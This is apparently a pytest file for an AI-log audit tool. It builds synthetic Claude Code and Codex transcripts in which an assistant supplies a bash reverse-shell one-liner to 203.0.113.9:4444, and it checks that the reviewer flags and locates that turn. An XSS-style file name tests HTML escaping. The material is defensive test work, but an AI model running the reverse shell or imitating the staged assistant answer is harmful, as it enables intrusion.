"""An auditor finds a flagged turn in the original log: each turn names its file, line and time.

The transcripts are written here in the real formats (Claude Code: the entries of d-kimuson/claude-code-viewer's
``1af7fc5e-...jsonl``, CLI 1.0.98, one entry per content block; Codex: daaain/claude-code-log's rollout, where the
``agent_message`` event precedes the assistant ``response_item`` carrying the same text) and audited with the
real ``oversight audit`` command on the embedded defaults. The local reviewer blocks a reverse-shell answer
(``cyber.reverse_shell``, critical): that is the flagged turn each test looks for in the file.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
from datetime import datetime
from html import escape
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from service.audit.jobs import open_job_store
from service.audit.run import job_report, submit
from service.audit.sessions import parse_many
from service.audit.worker import AuditWorker, audit_runtime
from service.cli import app
from service.importers import ToolCall
from service.importers.claude_code import read_transcript
from service.importers.codex import read_rollout
from service.runtime import Runtime
from service.settings import Settings
from tests.audit._helpers import cli_env
from tests.conftest import SHARED

COMMAND = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
FLAGGED = f"Here is a reverse shell: {COMMAND} - run it on the target to get access."
SONNET = "claude-sonnet-4-20250514"
CC_SESSION = "1af7fc5e-8455-4414-9ccd-011d40f70b2a"
RESUMED = "5d0c9a3e-7b21-4c44-9e0f-2a6b1c3d4e5f"
CODEX_SESSION = "11111111-1111-4111-8111-111111111111"


def _write(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


class Transcript:
    """Claude Code entries as CLI 1.0.98 writes them: a ``summary`` first, then user / assistant entries linked by
    ``uuid``, an assistant message split over one entry per content block (text, then ``tool_use``)."""

    def __init__(self, session: str = CC_SESSION) -> None:
        self.session = session
        self.rows: list[dict[str, Any]] = [{"type": "summary", "summary": "Network debugging", "leafUuid": "x"}]
        self.minute = 0

    def _entry(self, kind: str, message: dict[str, Any], *, timestamp: bool = True, **extra: Any) -> None:
        n = len(self.rows)
        self.minute += 1
        row = {"parentUuid": self.rows[-1].get("uuid"), "isSidechain": False, "userType": "external",
               "cwd": "/path/to/Demo", "sessionId": self.session, "version": "1.0.98", "gitBranch": "",
               "type": kind, "message": message, "uuid": f"00000000-0000-4000-8000-{n:012d}", **extra}
        if timestamp:
            row["timestamp"] = f"2025-09-03T00:{self.minute:02d}:21.540Z"
        self.rows.append(row)

    def user(self, text: str) -> Transcript:
        self._entry("user", {"role": "user", "content": text})
        return self

    def answer(self, text: str, *, command: str | None = None, timestamp: bool = True) -> Transcript:
        n = len(self.rows)
        message = {"id": f"msg_{n:024d}", "type": "message", "role": "assistant", "model": SONNET,
                   "content": [{"type": "text", "text": text}], "stop_reason": None, "stop_sequence": None,
                   "usage": {"input_tokens": 3, "output_tokens": 8, "service_tier": "standard"}}
        self._entry("assistant", message, timestamp=timestamp, requestId=f"req_{n:024d}")
        if command is not None:  # the same message's next block: a Bash call, then its result
            call = dict(message, content=[{"type": "tool_use", "id": f"toolu_{n:020d}", "name": "Bash",
                                           "input": {"command": command, "description": "Run it"}}])
            self._entry("assistant", call, requestId=f"req_{n:024d}")
            self._entry("user", {"role": "user", "content": [{"tool_use_id": f"toolu_{n:020d}", "type": "tool_result",
                                                               "content": "", "is_error": False}]})
        return self

    def write(self, path: Path) -> Path:
        return _write(path, self.rows)


def _risky_transcript(**answer: Any) -> Transcript:
    return (Transcript()
            .user("Which port is the dev server on?").answer("It listens on port 8000.", command="ss -ltnp")
            .user("How do I reach the lab box from outside?").answer(FLAGGED, **answer)
            .user("Thanks, anything else?").answer("No, that is all."))


def _codex_rows() -> list[dict[str, Any]]:
    """A rollout as in daaain/claude-code-log's sample: the answer as an ``agent_message`` event, then (1 ms later)
    as the assistant ``response_item`` the importer reads."""
    return [
        {"timestamp": "2026-01-02T03:04:05.000Z", "type": "session_meta", "payload": {
            "id": CODEX_SESSION, "timestamp": "2026-01-02T03:04:05.000Z", "cwd": "/workspace/lab",
            "originator": "codex_cli_rs", "cli_version": "0.104.0", "source": "cli", "model_provider": "openai"}},
        {"timestamp": "2026-01-02T03:04:06.000Z", "type": "turn_context", "payload": {
            "cwd": "/workspace/lab", "model": "gpt-5.3-codex", "approval_policy": "never",
            "sandbox_policy": {"type": "read-only"}}},
        {"timestamp": "2026-01-02T03:04:07.000Z", "type": "event_msg", "payload": {
            "type": "user_message", "message": "How do I reach the lab box from outside?"}},
        {"timestamp": "2026-01-02T03:04:07.001Z", "type": "response_item", "payload": {
            "type": "message", "role": "user", "content": [
                {"type": "input_text", "text": "How do I reach the lab box from outside?"}]}},
        {"timestamp": "2026-01-02T03:04:09.000Z", "type": "response_item", "payload": {
            "type": "function_call", "name": "exec_command", "arguments": json.dumps({"cmd": "ip addr"}),
            "call_id": "call-001"}},
        {"timestamp": "2026-01-02T03:04:10.000Z", "type": "response_item", "payload": {
            "type": "function_call_output", "call_id": "call-001", "output": "inet 10.0.0.5/24"}},
        {"timestamp": "2026-01-02T03:04:15.000Z", "type": "event_msg", "payload": {
            "type": "agent_message", "message": FLAGGED}},
        {"timestamp": "2026-01-02T03:04:15.001Z", "type": "response_item", "payload": {
            "type": "message", "role": "assistant", "content": [{"type": "output_text", "text": FLAGGED}]}},
        {"timestamp": "2026-01-02T03:04:16.000Z", "type": "future_synthetic_record", "payload": {"safe": "ignored"}},
    ]


def _audit(tmp_path: Path, target: Path, out: str = "report") -> tuple[dict[str, Any], Path]:
    done = CliRunner().invoke(app, ["audit", str(target), "--out", str(tmp_path / out)],
                              env=cli_env(tmp_path / "data") | {"COLUMNS": "400"})
    assert done.exit_code == 0, done.output
    return json.loads((tmp_path / out / "report.json").read_text()), tmp_path / out


def _only_flagged(report: dict[str, Any]) -> dict[str, Any]:
    flagged = report["flagged_turns"]
    assert [t["verdict"] for t in flagged] == ["block"], flagged
    assert [f["rule"] for f in flagged[0]["findings"]] == ["cyber.reverse_shell"]
    return dict(flagged[0])


def _line(text: str, number: int) -> str:
    """Line ``number`` (from 1) as an editor shows it."""
    return text.split("\n")[number - 1]


def _same_instant(ours: str, logged: str) -> bool:
    moment = datetime.fromisoformat(ours)
    return ours.endswith("+00:00") and moment == datetime.fromisoformat(logged.replace("Z", "+00:00"))


# -- JSON report --------------------------------------------------------------------------------------------------
def test_a_flagged_claude_code_turn_names_its_file_line_and_time(tmp_path: Path) -> None:
    path = _risky_transcript().write(tmp_path / f"{CC_SESSION}.jsonl")
    report, out = _audit(tmp_path, path)
    turn = _only_flagged(report)
    assert turn["turn_id"] == f"{CC_SESSION}#2"
    assert turn["source"] == str(path)  # the path as given on the command line
    raw = _line(path.read_text(), turn["line"])
    assert COMMAND in raw  # the auditor opens the file at that line and sees the answer under review
    entry = json.loads(raw)
    assert entry["type"] == "assistant" and entry["message"]["content"][0]["text"] == FLAGGED
    assert _same_instant(turn["timestamp"], entry["timestamp"])
    assert turn["timestamp"] == "2025-09-03T00:06:21.540+00:00"

    # every per-turn row (turns.jsonl, turns.csv) says where its answer is; existing columns keep their place
    rows = [json.loads(line) for line in (out / "turns.jsonl").read_text().splitlines()]
    text = path.read_text()
    for row in rows:
        logged = json.loads(_line(text, row["line"]))
        assert logged["type"] == "assistant" and row["source"] == str(path)
        assert _same_instant(row["timestamp"], logged["timestamp"])
    table = list(csv.DictReader(io.StringIO((out / "turns.csv").read_text())))
    header = (out / "turns.csv").read_text().splitlines()[0].split(",")
    assert header[:3] == ["seq", "turn_id", "session_id"] and header[-3:] == ["source", "line", "timestamp"]
    assert [(r["turn_id"], int(r["line"])) for r in table] == [(r["turn_id"], r["line"]) for r in rows]


def test_a_flagged_codex_turn_names_the_line_of_the_answer_it_reviewed(tmp_path: Path) -> None:
    path = _write(tmp_path / f"rollout-2026-01-02T03-04-05-{CODEX_SESSION}.jsonl", _codex_rows())
    turn = _only_flagged(_audit(tmp_path, path)[0])
    raw = _line(path.read_text(), turn["line"])
    entry = json.loads(raw)
    # the assistant response_item the answer was read from, not the agent_message event one line above
    assert turn["line"] == 8 and COMMAND in raw
    assert entry["type"] == "response_item" and entry["payload"]["role"] == "assistant"
    assert _same_instant(turn["timestamp"], entry["timestamp"])
    assert turn["timestamp"] == "2026-01-02T03:04:15.001+00:00"


def test_a_folder_audit_names_each_file_relative_to_the_folder(tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    cc = _risky_transcript().write(folder / "projects" / "-path-to-Demo" / f"{CC_SESSION}.jsonl")
    codex = _write(folder / "sessions" / "2026" / "01" / "02" / f"rollout-2026-01-02T03-04-05-{CODEX_SESSION}.jsonl",
                   _codex_rows())
    report, _ = _audit(tmp_path, folder)
    flagged = {t["session_id"]: t for t in report["flagged_turns"]}
    assert set(flagged) == {CC_SESSION, CODEX_SESSION}
    assert flagged[CC_SESSION]["source"] == f"projects/-path-to-Demo/{CC_SESSION}.jsonl"
    assert flagged[CODEX_SESSION]["source"] == f"sessions/2026/01/02/rollout-2026-01-02T03-04-05-{CODEX_SESSION}.jsonl"
    for turn, path in ((flagged[CC_SESSION], cc), (flagged[CODEX_SESSION], codex)):
        assert folder / turn["source"] == path and COMMAND in _line(path.read_text(), turn["line"])
    assert (flagged[CC_SESSION]["line"], flagged[CODEX_SESSION]["line"]) == (7, 8)


def test_a_gzipped_transcript_gives_the_line_in_the_decompressed_stream(tmp_path: Path) -> None:
    plain = _risky_transcript().write(tmp_path / "plain.jsonl")
    packed = tmp_path / f"{CC_SESSION}.jsonl.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes()))
    plain.unlink()
    turn = _only_flagged(_audit(tmp_path, packed)[0])
    assert turn["source"] == str(packed)
    raw = _line(gzip.decompress(packed.read_bytes()).decode(), turn["line"])
    assert turn["line"] == 7 and COMMAND in raw
    assert _same_instant(turn["timestamp"], json.loads(raw)["timestamp"])


def test_an_entry_without_a_timestamp_gets_none(tmp_path: Path) -> None:
    path = _risky_transcript(timestamp=False).write(tmp_path / f"{CC_SESSION}.jsonl")
    report, out = _audit(tmp_path, path)
    turn = _only_flagged(report)
    assert "timestamp" not in json.loads(_line(path.read_text(), turn["line"]))
    assert turn["timestamp"] is None  # not the time of the entries around it
    assert COMMAND in _line(path.read_text(), turn["line"])
    assert [r["timestamp"] is None for r in map(json.loads, (out / "turns.jsonl").read_text().splitlines())] == [
        False, True, False]


def test_a_sessions_file_names_the_line_of_the_session(tmp_path: Path) -> None:
    # the sessions format: one session per line (blank lines count); it carries no time per answer
    ok = {"session_id": "ok", "messages": [{"role": "user", "content": "Which port?"},
                                           {"role": "assistant", "content": "Port 8000."}]}
    risky = {"session_id": "risky", "started_at": "2026-05-01T10:00:00Z", "messages": [
        {"role": "user", "content": "How do I reach the lab box?"}, {"role": "assistant", "content": FLAGGED}]}
    path = tmp_path / "sessions.jsonl"
    path.write_text(json.dumps(ok) + "\n\n" + json.dumps(risky) + "\n")
    turn = _only_flagged(_audit(tmp_path, path)[0])
    assert (turn["turn_id"], turn["source"], turn["line"], turn["timestamp"]) == ("risky#1", str(path), 3, None)
    assert COMMAND in _line(path.read_text(), 3)


def test_a_resumed_session_names_the_first_file_the_answer_appears_in(tmp_path: Path) -> None:
    # `claude --resume` writes a new transcript that starts with the earlier session's entries (under their own
    # sessionId); the flagged answer was written in the earlier session.
    earlier = _risky_transcript()
    folder = tmp_path / "projects"
    a_path = earlier.write(folder / f"{CC_SESSION}.jsonl")
    resumed = Transcript(RESUMED)
    resumed.rows = [dict(r) for r in earlier.rows]
    resumed.minute = earlier.minute
    b_path = resumed.user("Write it up in NOTES.md.").answer("NOTES.md now describes the lab setup.").write(
        folder / f"{RESUMED}.jsonl")

    # both transcripts: the answer is counted once, as a turn of the earlier session, at its line in that file
    turn = _only_flagged(_audit(tmp_path, folder, "both")[0])
    assert (turn["turn_id"], turn["source"], turn["line"]) == (f"{CC_SESSION}#2", a_path.name, 7)
    assert COMMAND in _line(a_path.read_text(), 7)

    # the resumed transcript alone: the answer is its turn, at the line that carries it there
    turn = _only_flagged(_audit(tmp_path, b_path, "alone")[0])
    assert (turn["turn_id"], turn["source"]) == (f"{RESUMED}#2", str(b_path))
    raw = _line(b_path.read_text(), turn["line"])
    assert COMMAND in raw and json.loads(raw)["sessionId"] == CC_SESSION
    assert _same_instant(turn["timestamp"], json.loads(raw)["timestamp"])


# -- HTML report --------------------------------------------------------------------------------------------------
def test_the_html_report_shows_file_line_and_time_under_each_flagged_turn_escaped(tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    name = "<img src=x onerror=alert(1)>&'.jsonl"  # a file name is text from the audited machine
    _risky_transcript().write(folder / name)
    report, out = _audit(tmp_path, folder)
    turn = _only_flagged(report)
    assert turn["source"] == name
    page = (out / "report.html").read_text()
    stamp = "2025-09-03T00:06:21.540+00:00"
    assert f"{escape(name)}:7 · <time datetime='{stamp}'>{stamp}</time>" in page
    assert "<img" not in page and "Flagged turns (1)" in page
    assert escape(f"{CC_SESSION}#2 — block (blocking_finding)") in page


# -- API ----------------------------------------------------------------------------------------------------------
def _wait_report(client: TestClient, job_id: str) -> dict[str, Any]:
    import time

    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        report: dict[str, Any] = client.get(f"/v1/audits/{job_id}/report").json()
        if report["complete"]:
            return report
        time.sleep(0.1)
    raise AssertionError(f"job {job_id} did not finish")


def test_an_uploaded_file_is_named_by_its_file_name(client: TestClient, tmp_path: Path) -> None:
    data = _risky_transcript().write(tmp_path / "t.jsonl").read_bytes()
    resp = client.post("/v1/audits", files={"file": ("session-7.jsonl", data, "application/x-ndjson")})
    assert resp.status_code == 202, resp.text
    turn = _only_flagged(_wait_report(client, resp.json()["id"]))
    assert (turn["source"], turn["line"], turn["timestamp"]) == ("session-7.jsonl", 7, "2025-09-03T00:06:21.540+00:00")
    results = client.get(f"/v1/audits/{resp.json()['id']}/results").text.splitlines()
    assert {json.loads(r)["source"] for r in results} == {"session-7.jsonl"}

    # a raw body has no file name: no source, the line in the body all the same
    resp = client.post("/v1/audits?name=nightly", content=data, headers={"content-type": "application/x-ndjson"})
    turn = _only_flagged(_wait_report(client, resp.json()["id"]))
    assert (turn["source"], turn["line"]) == (None, 7)
    assert COMMAND in _line(data.decode(), 7)


# -- both stores --------------------------------------------------------------------------------------------------
async def test_where_a_turn_is_survives_the_job_store(any_settings: Settings, tmp_path: Path) -> None:
    # On SQLite and PostgreSQL: stored with the turn (its meta), copied to its result by the worker. A source
    # whose bytes are not UTF-8 (surrogate-escaped by Python; PostgreSQL cannot store that) is named with U+FFFD.
    data = _risky_transcript().write(tmp_path / "t.jsonl").read_bytes()
    source = os.fsdecode(b"caf\xe9/" + CC_SESSION.encode() + b".jsonl")
    parsed = parse_many([("t.jsonl", data)], sources=[source])
    async with Runtime.open(any_settings) as runtime, open_job_store(runtime.storage, any_settings.sqlite_path) as jobs:
        job_id = await submit(jobs, parsed)
        await AuditWorker(audit_runtime(runtime), jobs, job_id, concurrency=2, poll_s=0.05).run()
        info = await jobs.get_job(job_id)
        assert info is not None and info.finished
        report, results = await job_report(jobs, info)
    turn = _only_flagged(report)
    assert (turn["source"], turn["line"], turn["timestamp"]) == (
        f"caf\ufffd/{CC_SESSION}.jsonl", 7, "2025-09-03T00:06:21.540+00:00")
    assert [r["line"] for r in results] == [3, 7, 9]


# -- reading the logs ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("logged", "utc"),
    [("2025-09-03T00:47:21.540Z", "2025-09-03T00:47:21.540+00:00"),  # Claude Code, Codex
     ("2025-09-03T02:47:21.5+02:00", "2025-09-03T00:47:21.500+00:00"),
     ("2025-09-03T00:47:21Z", "2025-09-03T00:47:21+00:00"),
     ("2025-09-03t00:47:21.123456789z", "2025-09-03T00:47:21.123456+00:00"),
     ("2025-09-03T00:47:21", None),  # no offset: the zone is not guessed
     ("2025-09-03", None), ("yesterday", None), ("", None), (None, None)],
)
def test_timestamps_are_normalised_to_utc_or_left_out(logged: str | None, utc: str | None) -> None:
    from service.audit.sessions import iso_utc

    assert iso_utc(logged) == utc


CC_SAMPLE = (SHARED / "reference" / "samples" / "d-kimuson__claude-code-viewer" / "mock-global-claude-dir" / "projects"
             / "sample-project" / "5c0375b4-57a5-4f26-b12d-d022ee4e51b7.jsonl")
CODEX_SAMPLE = (SHARED / "reference" / "samples" / "madshn__localpush" / "src-tauri" / "tests" / "fixtures" / "codex"
                / "2026-02-23" / "raw" / "sessions"
                / "rollout-2026-02-23T20-34-25-019c8bfe-ec25-79e0-97d7-bda6a9c575ff.jsonl")


@pytest.mark.parametrize("sample", [CC_SAMPLE, CODEX_SAMPLE], ids=["claude-code", "codex"])
def test_every_record_of_a_real_log_points_at_its_own_line(sample: Path) -> None:
    session = (read_transcript if sample == CC_SAMPLE else read_rollout)(sample)
    lines = sample.read_text().split("\n")
    assert session.events
    for event in session.events:
        assert event.line is not None
        entry = json.loads(lines[event.line - 1])
        assert entry["timestamp"] == event.timestamp
        if isinstance(event, ToolCall):
            assert event.call_id in lines[event.line - 1]
    turns = parse_many([(str(sample), sample.read_bytes())]).turns
    assert turns and all(t.meta["line"] and t.meta["source"] == str(sample) for t in turns)


def test_a_subagents_own_transcript_is_audited_as_a_session_of_its_own(tmp_path: Path) -> None:
    # Claude Code 2.x writes each sub-agent to <session>/subagents/agent-<id>.jsonl, every entry a sidechain one;
    # the audit left all of it out as sidechain noise and reported "no conversation found": a disallowed answer
    # there was never labelled.
    folder = tmp_path / "logs"
    _risky_transcript().write(folder / f"{CC_SESSION}.jsonl")
    sub = Transcript().user("Find how to reach the lab box").answer(FLAGGED)
    sub.rows = sub.rows[1:]  # no summary line: the entries only
    for row in sub.rows:
        row.update(isSidechain=True, agentId="a1b2c3", version="2.0.28")
    sub_path = sub.write(folder / CC_SESSION / "subagents" / "agent-a1b2c3.jsonl")
    report, out = _audit(tmp_path, folder)
    flagged = {t["session_id"]: t for t in report["flagged_turns"]}
    assert set(flagged) == {CC_SESSION, f"{CC_SESSION}/agent-a1b2c3"}
    turn = flagged[f"{CC_SESSION}/agent-a1b2c3"]
    assert turn["verdict"] == "block" and folder / turn["source"] == sub_path
    assert COMMAND in _line(sub_path.read_text(), turn["line"])
    assert "no conversation found" not in (out / "report.json").read_text()
